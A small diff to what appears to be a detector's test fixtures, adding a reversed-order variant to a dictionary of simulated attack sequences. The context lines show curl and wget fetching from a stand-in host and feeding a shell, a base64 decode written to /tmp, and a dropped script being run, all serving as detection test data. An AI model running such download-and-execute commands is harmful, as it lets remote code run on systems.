@@ -216,6 +216,7 @@ ATTACKS.update({
     "download_then_shell": siblings(X("/usr/bin/curl", "-fsSL", "http://10.9.9.9/i"), X("/bin/bash")),
     "shell_fed_by_download": siblings(X("/bin/sh"), X("/usr/bin/wget", "-qO-", "http://10.9.9.9/i")),
     "decoded_payload_written": _decoded_to_tmp(),
+    "decoder_wrote_payload": list(reversed(_decoded_to_tmp())),
     "decoder_oneliner_writes_file": [X("/usr/bin/python3", "-c", "import base64;open('/tmp/x','wb').write("
                                        "base64.b64decode('ZWNobw=='))")],
     "dropped_script_run": [Open("/tmp/.s.sh", write=True, comm="curl"), X("/bin/sh", "/tmp/.s.sh", t=2)],
